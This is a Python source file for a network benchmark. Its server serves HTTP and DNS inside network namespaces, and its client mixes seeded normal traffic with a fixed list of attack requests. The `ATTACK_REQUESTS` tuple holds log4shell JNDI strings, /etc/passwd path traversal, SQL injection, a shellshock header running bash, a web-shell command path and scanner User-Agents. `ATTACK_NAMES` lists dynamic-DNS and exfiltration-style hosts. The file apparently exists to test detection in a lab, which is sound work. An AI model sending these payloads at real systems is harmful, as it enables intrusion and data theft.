"""The two ends of the mixed benchmark traffic: a server and a client, run in namespaces.

Scope: ``server`` serves HTTP on :80 (``/blob/<n>`` = n deterministic bytes, ``/item.php``
echoes its query, anything else a small page) and DNS on :53/udp (every A query answered
with the server's address); ``client`` replays a seeded plan against it: bulk downloads
of many sizes, many short HTTP flows, DNS queries, and attacks (log4shell, traversal,
SQL injection, scanner User-Agents, shellshock, DNS lookups of dynamic-DNS names)
interleaved. Started by bench/make_mixed.py with ``ip netns exec``; standard library only.

Non-goals: realism beyond "real TCP/IP stacks talking HTTP and DNS"; TLS.
"""

from __future__ import annotations

import argparse
import http.client
import random
import socket
import socketserver
import struct
import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import cast

_BLOCK = random.Random(7).randbytes(65536)

ATTACK_REQUESTS: tuple[tuple[str, dict[str, str]], ...] = (
    ("/index.html", {"User-Agent": "${jndi:ldap://10.99.0.2:1389/a}"}),
    ("/?x=${jndi:rmi://10.99.0.2/x}", {"User-Agent": "curl/7.88.1"}),
    ("/../../../../etc/passwd", {"User-Agent": "curl/7.88.1"}),
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", {"User-Agent": "curl/7.88.1"}),
    ("/item.php?id=1%20UNION%20SELECT%201,2,3--", {"User-Agent": "curl/7.88.1"}),
    ("/item.php?id=1'%20OR%20'1'='1", {"User-Agent": "sqlmap/1.7.2#stable"}),
    ("/item.php?id=SELECT%20VERSION()", {"User-Agent": "curl/7.88.1"}),
    ("/cgi-bin/test.cgi", {"User-Agent": "() { :; }; /bin/bash -c 'id'"}),
    ("/", {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"}),
    ("/shell.php?cmd=id", {"User-Agent": "curl/7.88.1"}),
    ("/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", {"User-Agent": "curl/7.88.1"}),
    (
        "/wp-login.php",
        {"User-Agent": "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"},
    ),
)
ATTACK_NAMES = ("myhome.duckdns.org", "4f2a9c1d.ngrok.io", "transfer.sh", "api.telegram.org",
                "paste.ee", "x.no-ip.org")  # fmt: skip


class _Http(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "nginx/1.22.1"
    sys_version = ""

    def do_GET(self) -> None:
        if self.path.startswith("/blob/"):
            size = int(self.path.split("/")[2] or 0)
            self._reply(200, "application/octet-stream", size)
        elif self.path.startswith("/item.php"):
            self._body(200, b"<html><body>item " + self.path.encode() + b"</body></html>\n")
        else:
            self._body(200, b"<html><head><title>bench</title></head><body>ok</body></html>\n")

    def _body(self, code: int, body: bytes) -> None:
        self.send_response(code)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def _reply(self, code: int, ctype: str, size: int) -> None:
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(size))
        self.send_header("Connection", "close")
        self.end_headers()
        left = size
        while left > 0:
            chunk = _BLOCK[: min(left, len(_BLOCK))]
            self.wfile.write(chunk)
            left -= len(chunk)

    def log_message(self, *_args: object) -> None:  # quiet
        pass


class _Dns(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        data, sock = self.request
        if len(data) < 12:
            return
        qend = 12
        while qend < len(data) and data[qend]:
            qend += data[qend] + 1
        question = data[12 : qend + 5]
        header = data[:2] + b"\x81\x80" + b"\x00\x01\x00\x01\x00\x00\x00\x00"
        answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + socket.inet_aton(
            self.server.answer  # type: ignore[attr-defined]
        )
        sock.sendto(header + question + answer, self.client_address)


def serve(addr: str) -> None:
    ThreadingHTTPServer.daemon_threads = True
    http_srv = ThreadingHTTPServer((addr, 80), _Http)
    dns_srv = socketserver.ThreadingUDPServer((addr, 53), _Dns)
    dns_srv.answer = addr  # type: ignore[attr-defined]
    threading.Thread(target=dns_srv.serve_forever, daemon=True).start()
    print("ready", flush=True)
    http_srv.serve_forever()


def dns_query(server: str, name: str, qid: int, qtype: int = 1) -> None:
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    q += struct.pack("!HH", qtype, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(q, (server, 53))
        try:
            s.recv(512)
        except TimeoutError:
            pass


def http_get(server: str, path: str, headers: dict[str, str]) -> int:
    conn = http.client.HTTPConnection(server, 80, timeout=30)
    try:
        conn.request("GET", path, headers={"Accept": "*/*", **headers})
        resp = conn.getresponse()
        n = 0
        while chunk := resp.read(1 << 16):
            n += len(chunk)
        return n
    finally:
        conn.close()


def plan(size_mb: int, seed: int) -> list[tuple[str, object]]:
    """The client's actions, reproducible from (size, seed): ~size_mb of HTTP bodies."""
    rng = random.Random(seed)
    budget = size_mb << 20
    actions: list[tuple[str, object]] = []
    agents = ("curl/7.88.1", "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
              "Wget/1.21.3", "python-requests/2.28.1")  # fmt: skip
    i = 0
    while budget > 0:
        i += 1
        size = int(10 ** rng.uniform(4, 6.9))  # bulk: 10 kB .. 8 MB, log-uniform
        budget -= size
        actions.append(("get", (f"/blob/{size}", {"User-Agent": rng.choice(agents)})))
        for _ in range(rng.randint(8, 24)):  # short flows: small pages
            actions.append(
                ("get", (f"/blob/{rng.randint(200, 4000)}", {"User-Agent": rng.choice(agents)}))
            )
        for _ in range(rng.randint(4, 10)):
            actions.append(("dns", f"host{rng.randint(1, 5000)}.example.com"))
        if i % 3 == 0:
            path, hdrs = ATTACK_REQUESTS[(i // 3) % len(ATTACK_REQUESTS)]
            actions.append(("get", (path, hdrs)))
        if i % 7 == 0:
            actions.append(("dns", ATTACK_NAMES[(i // 7) % len(ATTACK_NAMES)]))
    return actions


def client(server: str, size_mb: int, seed: int, parallel: int) -> None:
    actions = plan(size_mb, seed)

    def do(idx_action: tuple[int, tuple[str, object]]) -> None:
        idx, (kind, arg) = idx_action
        try:
            if kind == "dns":
                dns_query(server, str(arg), idx & 0xFFFF)
            else:
                path, hdrs = cast(tuple[str, dict[str, str]], arg)
                http_get(server, path, hdrs)
        except OSError as exc:
            print(f"client: {kind} {arg!r}: {exc}", file=sys.stderr)

    with ThreadPoolExecutor(parallel) as pool:
        list(pool.map(do, enumerate(actions)))
    print(f"client: {len(actions)} actions done", flush=True)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("role", choices=("server", "client"))
    ap.add_argument("--addr", default="10.99.0.1")
    ap.add_argument("--size-mb", type=int, default=256)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--parallel", type=int, default=4)
    a = ap.parse_args()
    if a.role == "server":
        serve(a.addr)
    else:
        client(a.addr, a.size_mb, a.seed, a.parallel)


if __name__ == "__main__":
    main()
